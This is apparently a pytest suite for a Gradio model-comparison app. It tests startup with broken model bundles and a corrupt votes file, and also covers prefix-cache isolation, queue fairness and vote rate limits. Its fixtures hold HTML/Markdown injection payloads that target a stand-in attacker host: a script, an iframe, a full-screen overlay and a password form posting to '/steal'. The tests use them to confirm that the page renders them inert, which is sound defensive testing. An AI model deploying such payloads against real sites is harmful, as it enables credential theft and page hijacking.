"""`python app.py` started beside bad files (issue 37, item 5): it starts whatever one file holds.

Each test starts the app as a process on 127.0.0.1 (the shipped models, the flagship, and
`--models` pointing at the bad files) with a votes file that cannot be read, and checks that it
serves `/gradio_api/info`, lists every bad file with what is wrong on the Models tab (read from
the page's config), logs one line per bad file and no traceback, tells the Arena's visitors what
happened to the votes file (kept aside, a fresh one in use), and still generates with the good
models. Every wait is bounded. In this process: manifests whose fields the tabs read have the
wrong kind (each beside a good bundle, `app.build` must build the page and list it), and the vote
store's own handling of files that are no votes database.
"""

from __future__ import annotations

import copy
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest

from tests.app_fixtures import chat_model_dir, free_port
from ui.safe_text import literal

__all__ = ["chat_model_dir"]  # a fixture, used by name
ROOT = Path(__file__).resolve().parent.parent
GOOD = ROOT / "models" / "bible-lm" / "int8"
START_S = 240  # the longest the app may take to serve its page on a loaded 2-core machine
ANSWER_S = 180  # the longest one generation may take (the app preloads every model meanwhile)

# folder name under --models DIR -> (manifest.json text, a piece of the reason shown for it)
BAD_MANIFESTS = {
    "manifest-list": ("[]", "JSON object"),
    "manifest-adapter-only": ('{"adapter": 5}', "schema_version"),
    "manifest-adapter-int": (
        {"schema_version": 1, "task": "causal-lm", "name": "a", "files": {}, "adapter": 5},
        "`adapter` must be",
    ),
    "manifest-controls-int": (
        {
            "schema_version": 1,
            "task": "causal-lm",
            "name": "c",
            "files": {},
            "graphs": {"decoder": {"file": "model.onnx"}},
            "num_layers": 1,
            "num_heads": 1,
            "head_size": 1,
            "controls": 5,
        },
        "`controls` must be",
    ),
    "manifest-base-x": (
        {
            "schema_version": 1,
            "task": "causal-lm",
            "name": "b",
            "files": {},
            "adapter": {"base": "x", "file": "adapter.onnx"},
        },
        "`adapter.base` must be",
    ),
}
# GGUF file name -> (its bytes, a piece of the reason shown for it)
BAD_GGUFS = {
    "garbage.gguf": (bytes(range(256)) * 20, "not a readable GGUF"),
    "truncated.gguf": (b"GGUF\x03\x00\x00\x00" + b"\x07" * 3000, "not a readable GGUF"),
}


def bad_models(folder: Path) -> list[str]:
    """Write the bad manifests (beside a good bundle, linked as `good-lm`) and bad GGUFs under
    `folder`; the `--models` arguments that name them."""
    models = folder / "models"
    models.mkdir()
    (models / "good-lm").symlink_to(GOOD, target_is_directory=True)
    for name, (manifest, _) in BAD_MANIFESTS.items():
        (models / name).mkdir()
        text = manifest if isinstance(manifest, str) else json.dumps(manifest)
        (models / name / "manifest.json").write_text(text)
    arguments = ["--models", str(models)]
    for name, (data, _) in BAD_GGUFS.items():
        (folder / name).write_bytes(data)
        arguments += ["--models", str(folder / name)]
    return arguments


@contextmanager
def running_app(folder: Path, votes: Path, arguments: list[str]):
    """(URL, stderr path) of `python app.py ARGUMENTS` on a free port once it serves its API;
    stopped on exit. Fails with the log's tail if the process ends or is not up in time."""
    port = free_port()
    log = folder / "stderr.txt"
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "GRADIO_ANALYTICS_ENABLED": "False",
        "SCRIPTORIUM_VOTES": str(votes),
    }
    command = [sys.executable, str(ROOT / "app.py"), "--host", "127.0.0.1", "--port", str(port)]
    with log.open("w") as stderr:
        process = subprocess.Popen(
            command + arguments, cwd=folder, env=env, stdout=subprocess.DEVNULL, stderr=stderr
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + START_S
        while True:
            if process.poll() is not None:
                pytest.fail(f"the app exited ({process.returncode}):\n{log.read_text()[-3000:]}")
            if time.monotonic() > deadline:
                pytest.fail(f"the app did not start in {START_S} s:\n{log.read_text()[-3000:]}")
            try:
                if httpx.get(f"{url}/gradio_api/info", timeout=5).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            time.sleep(1)
        yield url, log
    finally:
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(30)


def shown_text(url: str, elem_id: str) -> str:
    """The value of the page's Markdown with `elem_id` (from /config), "" when there is none."""
    config = httpx.get(f"{url}/config", timeout=30).json()
    for component in config["components"]:
        props = component.get("props", {})
        if props.get("elem_id") == elem_id:
            return str(props.get("value") or "")
    return ""


def generates(url: str, model: str) -> str:
    from gradio_client import Client

    client = Client(url, verbose=False, httpx_kwargs={"timeout": ANSWER_S})
    text, *_ = client.predict(
        model=model,
        prompt="In the beginning",
        mode="greedy",
        max_new_tokens=8,
        api_name="/generate",
    )
    return text


def one_line_each(log: str, reasons: dict[str, str]) -> None:
    """Each bad item (name -> a piece of its reason) is on exactly one line of `log`, and the log
    holds no traceback."""
    assert "Traceback" not in log, log[-3000:]
    for name, reason in reasons.items():
        lines = [line for line in log.splitlines() if name in line and reason in line]
        assert len(lines) == 1, (name, reason, log[-3000:])


def test_the_app_starts_beside_bad_models_and_a_garbage_votes_file(tmp_path):
    votes = tmp_path / "votes.sqlite"
    garbage = b"this is not a database\n" * 100
    votes.write_bytes(garbage)
    with running_app(tmp_path, votes, bad_models(tmp_path)) as (url, log):
        listed = shown_text(url, "models-problems")
        reasons = {name: reason for name, (_, reason) in {**BAD_MANIFESTS, **BAD_GGUFS}.items()}
        for name, reason in reasons.items():
            row = [line for line in listed.splitlines() if literal(name) in line]
            assert len(row) == 1 and literal(reason) in row[0], (name, listed)
        assert literal("votes.sqlite") in listed and "not a database" in listed, listed
        notice = shown_text(url, "arena-notice")
        (aside,) = tmp_path.glob("votes.sqlite.corrupt-*")
        assert aside.read_bytes() == garbage  # kept, renamed
        assert aside.name in notice and "new" in notice, notice
        with sqlite3.connect(votes) as db:  # a fresh, readable votes database in its place
            assert db.execute("SELECT COUNT(*) FROM votes").fetchone() == (0,)
        assert generates(url, "good-lm")  # a good model beside the bad ones
        assert generates(url, "bible-lm (int8)")
        one_line_each(log.read_text(), {**reasons, "votes.sqlite": "not a database"})


def test_the_app_starts_with_a_folder_at_the_votes_path(tmp_path):
    votes = tmp_path / "votes.sqlite"
    votes.mkdir()
    (votes / "kept.txt").write_text("mine")
    with running_app(tmp_path, votes, []) as (url, log):
        (aside,) = tmp_path.glob("votes.sqlite.corrupt-*")
        assert (aside / "kept.txt").read_text() == "mine"
        notice = shown_text(url, "arena-notice")
        assert "folder" in notice and aside.name in notice, notice
        assert "folder" in shown_text(url, "models-problems")
        with sqlite3.connect(votes) as db:
            assert db.execute("SELECT COUNT(*) FROM votes").fetchone() == (0,)
        assert generates(url, "bible-lm (int8)")
        one_line_each(log.read_text(), {"votes.sqlite": "folder"})


# (path of a field in bible-lm's manifest, the value written there): each broke the page's build
WRONG_KINDS = [
    (("files",), None),
    (("export",), None),
    (("export", "parameters"), "many"),
    (("training_data", "corpus"), 5),
    (("context_length",), "long"),
    (("chat",), 5),
    (("generation_defaults",), 5),
    (("generation_defaults", "num_beams"), "x"),
    (("controls", "section", "values"), 5),
]


def test_a_manifest_field_of_the_wrong_kind_is_listed_and_the_page_builds(tmp_path):
    import app
    from ui import votes
    from ui.registry import ModelRegistry

    manifest = json.loads((GOOD / "manifest.json").read_text())
    for n, (path, value) in enumerate(WRONG_KINDS):
        bad = tmp_path / f"bad-{n}"
        bad.mkdir()
        for file in GOOD.iterdir():
            if file.name != "manifest.json":
                (bad / file.name).symlink_to(file)
        changed = copy.deepcopy(manifest)
        inner = changed
        for key in path[:-1]:
            inner = inner[key]
        inner[path[-1]] = value
        (bad / "manifest.json").write_text(json.dumps(changed))
        registry = ModelRegistry({"bad": bad, "good": GOOD})  # bad first: the tabs' default
        app.build(registry, votes.VoteStore(tmp_path / "votes.sqlite"))
        assert registry.names == ["good"], path
        assert f"`{path[0]}" in registry.problems["bad"], (path, registry.problems)


def test_an_unreadable_model_card_is_said_and_the_page_builds(tmp_path):
    import app
    from ui import votes
    from ui.registry import ModelRegistry

    for file in GOOD.iterdir():
        if file.name != "README.md":
            (tmp_path / file.name).symlink_to(file)
    (tmp_path / "README.md").write_bytes(b"\xff\xfe\x00 not UTF-8")
    registry = ModelRegistry({"bad-card": tmp_path})
    app.build(registry, votes.VoteStore(tmp_path / "votes.sqlite"))
    assert "could not be read" in registry.card("bad-card")


def test_the_vote_store_keeps_aside_what_is_no_votes_database(tmp_path):
    from ui import votes

    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as db:
        db.execute("CREATE TABLE songs (title TEXT)")
    store = votes.VoteStore(other)
    assert "other tables (songs)" in store.problem and store.kept_as.exists()
    assert store.add(["a", "b"], 0) == 1 and store.tally()[0].a_wins == 1
    with sqlite3.connect(store.kept_as) as db:  # untouched
        assert db.execute("SELECT name FROM sqlite_master").fetchall() == [("songs",)]
    assert votes.VoteStore(other).problem is None  # the fresh one is a votes database
    fine = tmp_path / "fine.sqlite"
    assert votes.VoteStore(fine).notice is None and not fine.exists()  # made by the first vote
    blocked = tmp_path / "a-file" / "votes.sqlite"  # its folder cannot be made
    (tmp_path / "a-file").write_text("")
    with pytest.raises(ValueError, match="the vote was not kept"):
        votes.VoteStore(blocked).add(["a", "b"], None)


# ---- links, cards and files shown as text (issue 44, item 3) ----------------------------------

# A host nothing listens on: any request to it means the page fetched what a link or card named.
ATTACKER = "http://127.0.0.1:9"
HOSTILE_TAB = (
    f'<img src={ATTACKER}/x.png style="position:fixed;width:100vw;height:100vh"> '
    f"[Log in]({ATTACKER}/login)"
)
HOSTILE_CARD = f"""# evil-lm

| property | value |
|---|---|
| licence | <img src={ATTACKER}/licence.png style="position:fixed;inset:0"> |

<div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;
background:red">covered</div>
<script>window.pwned = 1</script>
<iframe src="{ATTACKER}/frame"></iframe>
<form action="{ATTACKER}/steal"><input name="password"></form>
<style>body {{ display: none }}</style>

![remote]({ATTACKER}/remote.png) [a fine link](https://example.org)

```
<b>code stays code</b>
```
"""


@pytest.fixture
def hostile_page(tmp_path):
    """(URL of an app whose one model, evil-lm, is bible-lm int8 with HOSTILE_CARD as its
    README, a Chromium page, the URLs that page requested); everything closed after the test."""
    from playwright.sync_api import sync_playwright

    import app
    from tests.app_fixtures import serve
    from tests.browser_fixtures import CHROMIUM, CHROMIUM_ARGS, TIMEOUT
    from ui import votes
    from ui.registry import ModelRegistry

    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed (apt-get install chromium)")
    bundle = tmp_path / "evil-lm"
    bundle.mkdir()
    for file in GOOD.iterdir():
        if file.name != "README.md":
            (bundle / file.name).symlink_to(file)
    (bundle / "README.md").write_text(HOSTILE_CARD)
    demo = app.build(ModelRegistry({"evil-lm": bundle}), votes.VoteStore(tmp_path / "votes.sqlite"))
    url = serve(demo)
    requested: list[str] = []
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            page = browser.new_page(viewport={"width": 1280, "height": 800})
            page.set_default_timeout(TIMEOUT * 1000)
            page.on("request", lambda request: requested.append(request.url))
            yield url, page, requested
            browser.close()
    finally:
        demo.close()


def test_a_link_that_names_markup_shows_it_as_text(hostile_page):
    from urllib.parse import quote

    from tests.browser_fixtures import wait_until

    url, page, requested = hostile_page
    page.goto(f"{url}?tab={quote(HOSTILE_TAB)}")
    notice = page.locator("#link-notice")
    wait_until(lambda: "Log in" in notice.inner_text(), "the link notice")
    text = notice.inner_text()
    assert "<img src=" in text and f"[Log in]({ATTACKER}/login)" in text, text
    assert notice.locator("img").count() == 0 and notice.locator("a").count() == 0
    assert page.locator("img[style*=fixed]").count() == 0
    assert not [u for u in requested if u.startswith(ATTACKER)], requested


def test_a_model_card_cannot_cover_the_page_or_fetch_anything(hostile_page):
    from tests.browser_fixtures import wait_until

    url, page, requested = hostile_page
    page.goto(url)
    page.get_by_role("tab", name="Models").click()
    heading = page.get_by_role("heading", name="evil-lm")
    heading.wait_for()
    card = page.locator(".prose", has=heading).first
    wait_until(lambda: "covered" in card.inner_text(), "the card's text")
    fixed = """() => [...document.querySelectorAll('body *')].filter(
        (e) => ['fixed', 'absolute'].includes(getComputedStyle(e).position)
               && e.textContent.includes('covered')).length"""
    assert page.evaluate(fixed) == 0, "the card's div is positioned over the page"
    assert page.evaluate("() => window.pwned") is None, "the card's script ran"
    for tag in ("script", "iframe", "form", "input", "style"):
        assert card.locator(tag).count() == 0, tag
    assert card.locator("table").count() == 1  # the Markdown stays: table, link, code
    assert card.get_by_role("link", name="a fine link").count() == 1
    assert "<b>code stays code</b>" in card.locator("pre").inner_text()
    assert "image not shown: remote" in card.inner_text()
    assert page.locator("body").is_visible()
    time.sleep(1.0)  # a request the card caused would have left by now
    assert not [u for u in requested if u.startswith(ATTACKER)], requested


def test_an_error_pop_up_shows_what_a_link_said_as_text(chat_model_dir, tmp_path):
    """A Chat link whose JSON schema is markup: the refusal quotes it, and Gradio's pop-up
    (which renders HTML) shows it as the characters it is, fetching nothing."""
    from urllib.parse import quote

    from playwright.sync_api import sync_playwright

    import app
    import runtime
    from tests.app_fixtures import serve
    from tests.browser_fixtures import CHROMIUM, CHROMIUM_ARGS, TIMEOUT, wait_until
    from ui import votes
    from ui.registry import ModelRegistry

    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed (apt-get install chromium)")
    registry = ModelRegistry({})
    registry.add("tiny-chat", chat_model_dir, runtime.load(chat_model_dir))
    demo = app.build(registry, votes.VoteStore(tmp_path / "votes.sqlite"))
    url = serve(demo)
    requested: list[str] = []
    schema = HOSTILE_TAB  # not JSON: refused, quoted in the message
    turns = quote('["a"]')
    link = f"{url}?tab=chat&user_turns={turns}&json_schema={quote(schema)}&run=1"
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            page = browser.new_page(viewport={"width": 1280, "height": 800})
            page.set_default_timeout(TIMEOUT * 1000)
            page.on("request", lambda request: requested.append(request.url))
            page.goto(link)
            toast = page.locator('[data-testid="toast-body"]').first
            shown = lambda: toast.inner_text() if toast.count() else ""  # noqa: E731
            wait_until(lambda: "json_schema" in shown(), "the pop-up")
            text = toast.inner_text().replace("\u200b", "")  # the message quotes 60 characters
            assert f"got '<img src={ATTACKER}/x.png style=" in text, text
            assert toast.locator("img").count() == 0 and toast.locator("a").count() == 0
            assert not [u for u in requested if u.startswith(ATTACKER)], requested
            browser.close()
    finally:
        demo.close()


# ---- each visitor's prefix cache apart (issue 44, item 7) --------------------------------------


def test_a_private_prefix_cache_keeps_each_visitors_prompts_apart(tmp_path):
    """Two sessions send the same long system prompt through `/chat`. Without the setting the
    second finds the first's blocks in the prefix cache (the side channel: it answers sooner);
    with it, only a session's own earlier prompts are found."""
    from gradio_client import Client

    import app
    import runtime
    from convert.gguf import export_gguf
    from tests.app_fixtures import serve
    from tests.gguf_models import write_tiny_gguf
    from ui import visitor, votes
    from ui.registry import ModelRegistry

    gguf = write_tiny_gguf(tmp_path / "tiny.gguf", "llama", "Q4_1")
    export_gguf(gguf, tmp_path / "tiny", parity=False)
    gen = runtime.load(tmp_path / "tiny")
    cache = gen.engine.prefix_cache
    registry = ModelRegistry({})
    registry.add("tiny-chat", tmp_path / "tiny", gen)
    settings = ["greedy", 2, 1.0, 0, 1.0, 0.0, 1.0, 0, 0]  # chat_tab.SETTINGS' order
    demo = app.build(registry, votes.VoteStore(tmp_path / "votes.sqlite"), False)
    url = serve(demo)
    found = {}
    try:
        first, second = Client(url, verbose=False), Client(url, verbose=False)
        for private in (False, True):
            visitor.configure(private)  # what `app.build` does with the setting
            system = f"{'private' if private else 'shared'} rules: " + "be kind and brief. " * 4
            found[private] = []
            for client in (first, second, first):
                before = cache.hits
                client.predict("tiny-chat", system, ["Hi"], *settings, "", api_name="/chat")
                found[private].append(cache.hits - before)
    finally:
        visitor.configure(False)
        demo.close()
    assert found[False] == [0, 1, 1]  # the second session found the first's system prompt
    assert found[True] == [0, 0, 1]  # only the first session's own second request did


# ---- one visitor's events hold up no other visitor (issue 44, item 2) --------------------------


def test_a_session_at_its_share_of_the_model_slots_lets_others_start():
    """Gradio's queue with the app's order (ui/visitor.py): of the waiting model events, the
    oldest of a session under its share (2 of the 4 slots) starts; a session at its share waits
    even with slots free, so another session's later event starts first (Gradio alone starts
    them in arrival order, and one session's 16 slow chats held every slot)."""
    from types import SimpleNamespace

    from gradio import queueing

    from ui import visitor

    visitor.configure(False)
    fn = SimpleNamespace(batch=False)
    models = queueing.EventQueue("models", 4)
    queue = SimpleNamespace(
        active_jobs=[None] * 4, event_queue_per_concurrency_id={"models": models}
    )

    def event(session):
        return SimpleNamespace(session_hash=session, fn=fn)

    def start():
        picked = queueing.Queue.get_events(queue)
        if picked is None:
            return None
        queue.active_jobs[queue.active_jobs.index(None)] = picked[0]
        return picked[0][0].session_hash

    models.queue = [event("a") for _ in range(16)]
    assert [start(), start(), start()] == ["a", "a", None]  # a at its share: 2 slots stay free
    models.queue.append(event("b"))
    assert [start(), start()] == ["b", None]
    queue.active_jobs[0] = None  # one of a's ends
    assert start() == "a" and len(models.queue) == 13


def test_the_issues_vote_flood_is_held_to_the_per_session_limit():
    """The issue's flood: 164 votes in 62 s from four sessions through the queue API (all were
    counted). With the arena's limit (6 a minute per session, ui/arena.py, a sliding window),
    each session gets 6 in its first 8 s, then one more once its first has left the window at
    60 s: 28 of the 164, and every refusal says how long to wait."""
    from ui import arena, votes

    now = [0.0]
    limit = votes.RateLimit(arena.VOTES_PER_MINUTE, 60.0, clock=lambda: now[0])
    counted, waits = 0, []
    for attempt in range(164):
        now[0] = attempt * 62 / 164
        wait = limit.wait(f"session-{attempt % 4}")
        counted += wait == 0.0
        waits += [wait] if wait else []
    assert counted == 4 * (arena.VOTES_PER_MINUTE + 1)
    assert all(0 < wait <= 60 for wait in waits)
